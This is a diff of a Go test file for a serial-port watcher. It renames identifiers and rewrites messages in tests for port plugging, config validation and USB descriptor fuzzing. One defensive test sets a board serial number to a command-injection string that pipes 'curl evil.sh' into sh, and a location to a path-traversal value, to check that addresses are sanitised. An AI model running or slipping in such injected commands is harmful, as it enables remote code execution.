@@ -17,78 +17,78 @@ import (
 	"github.com/ferrulehq/ferrule/internal/device/transport"
 )
 
-// machine is a system in the hands of a test.
+// machine is a fake system.
 type machine struct {
-	mu    sync.Mutex
-	ports []found
-	links map[string]string // paths that lead to others
-	boot  map[string]int    // how often a path was plugged in
-	mute  bool              // it does not tell of ports
-	unlit string            // a path that it does not list
+	mu     sync.Mutex
+	ports  []systemPort
+	links  map[string]string // symbolic links
+	plugs  map[string]int    // how often a path was plugged in
+	broken bool              // list fails
+	hidden string            // a path that list leaves out
 }
 
-func (m *machine) plug(f found) {
+func (m *machine) plug(f systemPort) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	if m.boot == nil {
-		m.boot = make(map[string]int)
+	if m.plugs == nil {
+		m.plugs = make(map[string]int)
 	}
-	m.boot[f.Path]++
+	m.plugs[f.Path]++
 	m.ports = append(m.ports, f)
 }
 
 func (m *machine) unplug(path string) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	m.ports = slices.DeleteFunc(m.ports, func(f found) bool { return f.Path == path })
+	m.ports = slices.DeleteFunc(m.ports, func(f systemPort) bool { return f.Path == path })
 }
 
-func (m *machine) hush(mute bool) {
+func (m *machine) setBroken(broken bool) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	m.mute = mute
+	m.broken = broken
 }
 
-func (m *machine) list() ([]found, error) {
+func (m *machine) list() ([]systemPort, error) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	if m.mute {
+	if m.broken {
 		return nil, errors.New("not now")
 	}
-	return slices.DeleteFunc(slices.Clone(m.ports), func(f found) bool { return f.Path == m.unlit }), nil
+	return slices.DeleteFunc(slices.Clone(m.ports), func(f systemPort) bool { return f.Path == m.hidden }), nil
 }
 
-func (m *machine) blind(path string) {
+func (m *machine) hide(path string) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	m.unlit = path
+	m.hidden = path
 }
 
-func (m *machine) lists(path string) bool {
+func (m *machine) covers(path string) bool {
 	return strings.HasPrefix(path, "/dev/ttyACM") || strings.HasPrefix(path, "/dev/ttyUSB")
 }
 
-func (m *machine) stat(path string) (real, mark string, err error) {
+func (m *machine) stat(path string) (real, fileID string, err error) {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	if to := m.links[path]; to != "" {
 		path = to
 	}
-	if !slices.ContainsFunc(m.ports, func(f found) bool { return f.Path == path }) {
+	if !slices.ContainsFunc(m.ports, func(f systemPort) bool { return f.Path == path }) {
 		return "", "", errors.New("no such port")
 	}
-	return path, fmt.Sprint(path, m.boot[path]), nil
+	return path, fmt.Sprint(path, m.plugs[path]), nil
 }
 
-// the ports of the tests.
+// The ports of the tests.
 var (
-	arduino = found{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Place: "1-1", Interface: "0"}
-	printer = found{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Place: "1-2"}
-	bridge  = found{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Place: "1-3"}
-	console = found{Path: "/dev/ttyAMA0"}
+	arduino = systemPort{Path: "/dev/ttyACM0", USB: true, VID: "2341", PID: "0043", Serial: "95530343834351A0B091", Product: "Arduino Uno", Location: "1-1", Interface: "0"}
+	printer = systemPort{Path: "/dev/ttyUSB0", USB: true, VID: "1A86", PID: "7523", Product: "USB Serial", Location: "1-2"}
+	bridge  = systemPort{Path: "/dev/ttyUSB1", USB: true, VID: "10C4", PID: "EA60", Serial: "0001", Product: "CP2102", Location: "1-3"}
+	console = systemPort{Path: "/dev/ttyAMA0"}
 )
 
-// watch runs a connector on a machine, and returns what it last reported.
+// watch runs a connector on a machine. Latest returns its last report.
 func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
 	t.Helper()
 	cfg := DefaultConfig()
@@ -116,7 +116,7 @@ func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
 		}
 	})
 	return func() []string {
-		time.Sleep(cfg.Look + time.Millisecond)
+		time.Sleep(cfg.PollInterval + time.Millisecond)
 		mu.Lock()
 		defer mu.Unlock()
 		var lines []string
@@ -125,8 +125,8 @@ func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
 				t.Errorf("%s is local: %t", s.Address, s.Local)
 			}
 			line := fmt.Sprintf("%s #%d", s.Address, s.Instance)
-			for word, so := range map[string]bool{" adopted": s.Adopted, " shy": s.Shy != "", " absent": s.Absent != "", " as " + s.Name: s.Name != ""} {
-				if so {
+			for word, ok := range map[string]bool{" adopted": s.Adopted, " unopened": s.AdoptFirst != "", " absent": s.Absent != "", " as " + s.Name: s.Name != ""} {
+				if ok {
 					line += word
 				}
 			}
@@ -136,14 +136,14 @@ func watch(t *testing.T, m *machine, ports ...Port) (latest func() []string) {
 	}
 }
 
-// sorted puts the words of a line after its first two in order.
+// sorted sorts the words of a line after its first two.
 func sorted(line string) string {
 	words := strings.Fields(line)
 	slices.Sort(words[2:])
 	return strings.Join(words, " ")
 }
 
-// TestWatch plugs and unplugs.
+// TestWatch plugs and unplugs boards.
 func TestWatch(t *testing.T) {
 	type step struct {
 		do   func(m *machine)
@@ -152,7 +152,7 @@ func TestWatch(t *testing.T) {
 	moved := arduino
 	moved.Path = "/dev/ttyACM7"
 	twin := bridge
-	twin.Path, twin.Place = "/dev/ttyUSB2", "1-4"
+	twin.Path, twin.Location = "/dev/ttyUSB2", "1-4"
 	second := arduino
 	second.Path, second.Interface = "/dev/ttyACM1", "2"
 	numbered, other := bridge, twin
@@ -164,20 +164,20 @@ func TestWatch(t *testing.T) {
 		"auto": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) {}, nil},
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
-			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
-			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 shy"}},
-			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2 #2 shy"}},
-			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2 #2 shy", "usb:2341:0043:95530343834351A0B091 #3 adopted"}},
+			{func(m *machine) { m.plug(printer) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 unopened"}},
+			{func(m *machine) { m.plug(console) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted", "usb:1A86:7523@1-2 #2 unopened"}},
+			{func(m *machine) { m.unplug(arduino.Path) }, []string{"usb:1A86:7523@1-2 #2 unopened"}},
+			{func(m *machine) { m.plug(moved) }, []string{"usb:1A86:7523@1-2 #2 unopened", "usb:2341:0043:95530343834351A0B091 #3 adopted"}},
 		}},
-		"auto, held": {[]Port{{Path: Auto, Pending: true}}, []step{
+		"auto, pending": {[]Port{{Path: Auto, Pending: true}}, []step{
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1"}},
 		}},
-		"a system that is mute for a moment": {[]Port{{Path: Auto}}, []step{
+		"a system that fails for a moment": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
-			{func(m *machine) { m.hush(true) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
-			{func(m *machine) { m.hush(false); m.unplug(arduino.Path) }, nil},
+			{func(m *machine) { m.setBroken(true) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
+			{func(m *machine) { m.setBroken(false); m.unplug(arduino.Path) }, nil},
 		}},
-		"replugged between two looks": {[]Port{{Path: Auto}}, []step{
+		"replugged between two scans": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted"}},
 			{func(m *machine) { m.unplug(arduino.Path); m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted"}},
 			{func(m *machine) { m.unplug(arduino.Path); m.plug(moved) }, []string{"usb:2341:0043:95530343834351A0B091 #3 adopted"}},
@@ -188,7 +188,7 @@ func TestWatch(t *testing.T) {
 			{func(m *machine) { m.unplug(printer.Path) }, nil},
 			{func(m *machine) { m.plug(printer) }, []string{"usb:1A86:7523@1-2 #3 adopted as robot"}},
 		}},
-		"named by a link, and held": {[]Port{{Path: "/dev/robot", Pending: true}}, []step{
+		"named by a link, and pending": {[]Port{{Path: "/dev/robot", Pending: true}}, []step{
 			{func(m *machine) {
 				m.links = map[string]string{"/dev/robot": arduino.Path}
 				m.plug(arduino)
@@ -201,8 +201,8 @@ func TestWatch(t *testing.T) {
 			{func(m *machine) {}, []string{"/dev/ttyAMA0 #1 absent adopted"}},
 			{func(m *machine) { m.plug(console) }, []string{"serial:/dev/ttyAMA0 #2 adopted"}},
 		}},
-		"a number that all have is none": {[]Port{{Path: Auto}}, []step{
-			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
+		"a serial number that all have": {[]Port{{Path: Auto}}, []step{
+			{func(m *machine) { m.plug(bridge); m.plug(twin) }, []string{"usb:10C4:EA60@1-3 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
 		}},
 		"a board with two ports": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) { m.plug(second) }, []string{"usb:2341:0043:95530343834351A0B091.2 #1 adopted"}},
@@ -214,27 +214,27 @@ func TestWatch(t *testing.T) {
 				m.plug(arduino)
 			}, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot", "/dev/ttyACM0 #2 absent adopted"}},
 		}},
-		"a port that is not described for a look": {[]Port{{Path: arduino.Path, Name: "robot"}}, []step{
+		"a port that is not listed in one scan": {[]Port{{Path: arduino.Path, Name: "robot"}}, []step{
 			{func(m *machine) { m.plug(arduino) }, []string{"usb:2341:0043:95530343834351A0B091 #1 adopted as robot"}},
-			{func(m *machine) { m.blind(arduino.Path) }, nil},
-			{func(m *machine) { m.blind("") }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted as robot"}},
+			{func(m *machine) { m.hide(arduino.Path) }, nil},
+			{func(m *machine) { m.hide("") }, []string{"usb:2341:0043:95530343834351A0B091 #2 adopted as robot"}},
 		}},
-		"two with one number, there from the start": {[]Port{{Path: Auto}}, []step{
-			{func(m *machine) { m.plug(numbered); m.plug(other) }, []string{"usb:10C4:EA60@1-3 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
+		"two with one serial number, present from the start": {[]Port{{Path: Auto}}, []step{
+			{func(m *machine) { m.plug(numbered); m.plug(other) }, []string{"usb:10C4:EA60@1-3 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
 		}},
-		"four in one place": {[]Port{{Path: Auto}}, []step{
+		"three at one location": {[]Port{{Path: Auto}}, []step{
 			{func(m *machine) {
 				for _, path := range []string{"/dev/ttyUSB5", "/dev/ttyUSB6", "/dev/ttyUSB7"} {
 					f := printer
 					f.Path = path
 					m.plug(f)
 				}
-			}, []string{"usb:1A86:7523@1-2 #1 shy", "usb:1A86:7523@1-2-ttyUSB6 #2 shy", "usb:1A86:7523@1-2-ttyUSB7 #3 shy"}},
+			}, []string{"usb:1A86:7523@1-2 #1 unopened", "usb:1A86:7523@1-2-ttyUSB6 #2 unopened", "usb:1A86:7523@1-2-ttyUSB7 #3 unopened"}},
 		}},
-		"two with one number": {[]Port{{Path: Auto}}, []step{
-			{func(m *machine) { m.plug(numbered) }, []string{"usb:10C4:EA60:10000001 #1 shy"}},
-			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60:10000001 #1 shy", "usb:10C4:EA60@1-4 #2 shy"}},
-			{func(m *machine) { m.unplug(numbered.Path) }, []string{"usb:10C4:EA60@1-4 #2 shy"}},
+		"two with one serial number": {[]Port{{Path: Auto}}, []step{
+			{func(m *machine) { m.plug(numbered) }, []string{"usb:10C4:EA60:10000001 #1 unopened"}},
+			{func(m *machine) { m.plug(other) }, []string{"usb:10C4:EA60:10000001 #1 unopened", "usb:10C4:EA60@1-4 #2 unopened"}},
+			{func(m *machine) { m.unplug(numbered.Path) }, []string{"usb:10C4:EA60@1-4 #2 unopened"}},
 		}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -252,29 +252,29 @@ func TestWatch(t *testing.T) {
 	}
 }
 
-// TestAbsent: that a port is not there is told with those that are.
+// TestAbsent: the message for a missing port lists those that exist.
 func TestAbsent(t *testing.T) {
 	for _, test := range []struct {
-		ports []found
+		ports []systemPort
 		want  string
 	}{
-		{nil, "there is no port COM9, and no other that a board is plugged into"},
-		{[]found{arduino, console}, `there is no port COM9; there is /dev/ttyACM0 ("Arduino Uno"), /dev/ttyAMA0`},
+		{nil, "there is no port COM9, and no board on another port"},
+		{[]systemPort{arduino, console}, `there is no port COM9; found /dev/ttyACM0 ("Arduino Uno"), /dev/ttyAMA0`},
 	} {
 		c := New(Config{Ports: []Port{{Path: "COM9", Name: "robot"}}})
 		c.system = &machine{ports: test.ports}
-		if s := c.sightings(c.look())[0]; s.Absent != test.want || s.Name != "robot" || s.Address != "COM9" {
+		if s := c.sightings(c.scan())[0]; s.Absent != test.want || s.Name != "robot" || s.Address != "COM9" {
 			t.Errorf("got %+v, want %s", s, test.want)
 		}
 	}
 }
 
-// TestHostileWords: whatever a board says of itself, its address can stand in a
-// command.
-func TestHostileWords(t *testing.T) {
+// TestShellSafe: the address of a board is safe in a command, whatever its descriptor
+// holds.
+func TestShellSafe(t *testing.T) {
 	f := arduino
-	f.Serial, f.Place = "x;curl evil.sh|sh;$(reboot)`id`", "../../etc"
-	for _, address := range []string{port{found: f}.address(), f.place()} {
+	f.Serial, f.Location = "x;curl evil.sh|sh;$(reboot)`id`", "../../etc"
+	for _, address := range []string{port{systemPort: f}.address(), f.locationAddress()} {
 		if strings.Trim(address, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:@._-") != "" {
 			t.Errorf("got %s", address)
 		}
@@ -290,11 +290,11 @@ func TestCheck(t *testing.T) {
 		want  string
 	}{
 		{[]Port{{Path: "COM3", Baud: 9600, Reset: ResetNone}, {Path: Auto}}, ""},
-		{[]Port{{}}, "a port has no path"},
-		{[]Port{{Path: "COM3"}, {Path: "COM3"}}, "port COM3 is given twice"},
-		{[]Port{{Path: "COM3", Baud: 1}}, "1 is no bit rate"},
-		{[]Port{{Path: "COM3", Reset: "twice"}}, `reset: want none, or nothing, got "twice"`},
-		{[]Port{{Path: Auto, Name: "robot"}}, `cannot give all of them the name "robot"`},
+		{[]Port{{}}, "port must have a path"},
+		{[]Port{{Path: "COM3"}, {Path: "COM3"}}, "port COM3 is configured twice"},
+		{[]Port{{Path: "COM3", Baud: 1}}, "baud must be 50 to 12000000, got 1"},
+		{[]Port{{Path: "COM3", Reset: "twice"}}, `reset must be none or empty, got "twice"`},
+		{[]Port{{Path: Auto, Name: "robot"}}, `cannot have the name "robot"`},
 	} {
 		err := Config{Ports: test.ports}.Check()
 		if (err == nil) != (test.want == "") || err != nil && !strings.Contains(err.Error(), test.want) {
@@ -303,8 +303,8 @@ func TestCheck(t *testing.T) {
 	}
 }
 
-// FuzzDescriptor: whatever a USB descriptor says, one plain line of it is shown,
-// and it makes an address that can stand in a command.
+// FuzzDescriptor: any USB descriptor is shown as one printable line, and gives an
+// address that is safe in a command.
 func FuzzDescriptor(f *testing.F) {
 	f.Add("Arduino Uno\n")
 	f.Add("\x1b[31mred\u202e")
@@ -313,8 +313,8 @@ func FuzzDescriptor(f *testing.F) {
 		if len(got) > 128 || strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r > '~' }) || clean(got) != got {
 			t.Errorf("%q became %q", s, got)
 		}
-		p := port{found: found{USB: true, VID: "2341", PID: "0043", Serial: got, Place: got, Interface: got}}
-		for _, address := range []string{p.address(), p.place()} {
+		p := port{systemPort: systemPort{USB: true, VID: "2341", PID: "0043", Serial: got, Location: got, Interface: got}}
+		for _, address := range []string{p.address(), p.locationAddress()} {
 			if !regexp.MustCompile(`^usb:2341:0043[:@][A-Za-z0-9._:-]{1,200}$`).MatchString(address) {
 				t.Errorf("%q became the address %q", s, address)
 			}
@@ -322,17 +322,18 @@ func FuzzDescriptor(f *testing.F) {
 	})
 }
 
-// TestVendorsAreTold: docs/reference/serial-ports.md tells whose boards are opened unasked.
-func TestVendorsAreTold(t *testing.T) {
+// TestBoardMakersDocumented: docs/reference/serial-ports.md lists the makers whose boards are opened
+// without adoption.
+func TestBoardMakersDocumented(t *testing.T) {
 	doc, err := os.ReadFile("../../../../docs/reference/serial-ports.md")
 	if err != nil {
 		t.Fatal(err)
 	}
-	told := make(map[string]string)
+	documented := make(map[string]string)
 	for _, row := range regexp.MustCompile("(?m)^\\| `([0-9A-F]{4})` \\| (.*) \\|$").FindAllStringSubmatch(string(doc), -1) {
-		told[row[1]] = row[2]
+		documented[row[1]] = row[2]
 	}
-	if !maps.Equal(told, vendors) {
-		t.Errorf("docs/reference/serial-ports.md tells of %v, and those that are opened are %v", told, vendors)
+	if !maps.Equal(documented, boardMakers) {
+		t.Errorf("docs/reference/serial-ports.md lists %v, want %v", documented, boardMakers)
 	}
 }
